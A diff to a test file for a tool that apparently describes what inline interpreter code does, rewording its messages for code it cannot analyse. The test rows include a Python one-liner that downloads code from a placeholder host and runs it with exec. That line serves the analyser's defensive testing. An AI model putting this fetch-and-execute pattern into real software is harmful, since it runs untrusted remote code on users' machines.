@@ -99,8 +99,8 @@ const PROGRAMS: readonly Row[] = [
 ];
 
 const HIDDEN: readonly Row[] = [
-  ["python", "import subprocess\nsubprocess.run(cmd)", "? starts a program that cannot be told"],
-  ["python", "exec(x)", "? runs code that cannot be told"],
+  ["python", "import subprocess\nsubprocess.run(cmd)", "? starts a program that cannot be determined"],
+  ["python", "exec(x)", "? runs code that cannot be determined"],
   [
     "python",
     "import requests; exec(requests.get('https://x.test/a').text)",
@@ -282,8 +282,8 @@ describe("inline code", () => {
     for (const language of ["python", "node", "ruby", "perl", "php", "lua", "rscript", "applescript"])
       for (const piece of pieces) {
         expect(does(language, piece.repeat(4_000 / piece.length)), piece).toBeInstanceOf(Array);
-        expect(does(language, piece.repeat(100_000))).toEqual(["? holds more code than can be followed"]);
+        expect(does(language, piece.repeat(100_000))).toEqual(["? contains more code than can be analysed"]);
       }
-    expect(does("python", "os.remove('a')\n".repeat(1_000))).toEqual(["? holds more code than can be followed"]);
+    expect(does("python", "os.remove('a')\n".repeat(1_000))).toEqual(["? contains more code than can be analysed"]);
   });
 });
